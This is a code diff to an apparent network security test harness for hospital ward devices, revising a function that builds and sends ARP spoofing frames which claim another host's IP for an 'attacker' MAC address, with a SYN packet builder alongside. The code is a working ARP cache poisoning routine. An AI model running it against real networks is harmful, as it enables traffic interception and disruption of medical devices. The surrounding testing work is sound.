@@ -20,6 +20,8 @@ BROADCAST = "ff:ff:ff:ff:ff:ff"
 ALL_NODES = "33:33:00:00:00:01"
 # A locally administered address that no station of the ward has.
 STRANGER = "02:13:37:00:00:01"
+# A hospital machine that no device of the ward talks to.
+LONELY_HOST = "10.20.0.66"
 
 
 def syn(mac: str, source_ip: str, target: Host, source_port: int, port: int) -> bytes:
@@ -52,15 +54,22 @@ def ip_of_device(parties: Parties) -> int:
 
 
 def arp(parties: Parties) -> int:
-    """Answers and announcements that put another host's address onto the attacker."""
-    claim = dict(hwsrc=parties.attacker.mac, psrc=parties.other.ip)
-    answer = ARP(op="is-at", hwdst=parties.target.mac, pdst=parties.target.ip, **claim)
-    announcement = ARP(op="who-has", hwdst="00:00:00:00:00:00", pdst=parties.other.ip, **claim)
-    frames = [
-        Ether(src=parties.attacker.mac, dst=parties.target.mac) / answer,
-        Ether(src=parties.attacker.mac, dst=BROADCAST) / announcement,
-    ]
-    return parties.send([bytes(frame) for frame in frames] * REPEATS)
+    """Answers and announcements that put somebody else's address onto the attacker."""
+    answer = Ether(src=parties.attacker.mac, dst=parties.target.mac)
+    answer /= ARP(
+        op="is-at",
+        hwsrc=parties.attacker.mac,
+        psrc=parties.other.ip,
+        hwdst=parties.target.mac,
+        pdst=parties.target.ip,
+    )
+    # Every device of the ward hears this one, the gateway or no, since they share a switch. So it
+    # claims an address that none of them talks to.
+    announcement = Ether(src=parties.attacker.mac, dst=BROADCAST)
+    announcement /= ARP(
+        op="who-has", hwsrc=parties.attacker.mac, psrc=LONELY_HOST, pdst=LONELY_HOST
+    )
+    return parties.send([bytes(frame) for frame in (answer, announcement)] * REPEATS)
 
 
 def neighbour(parties: Parties) -> int:
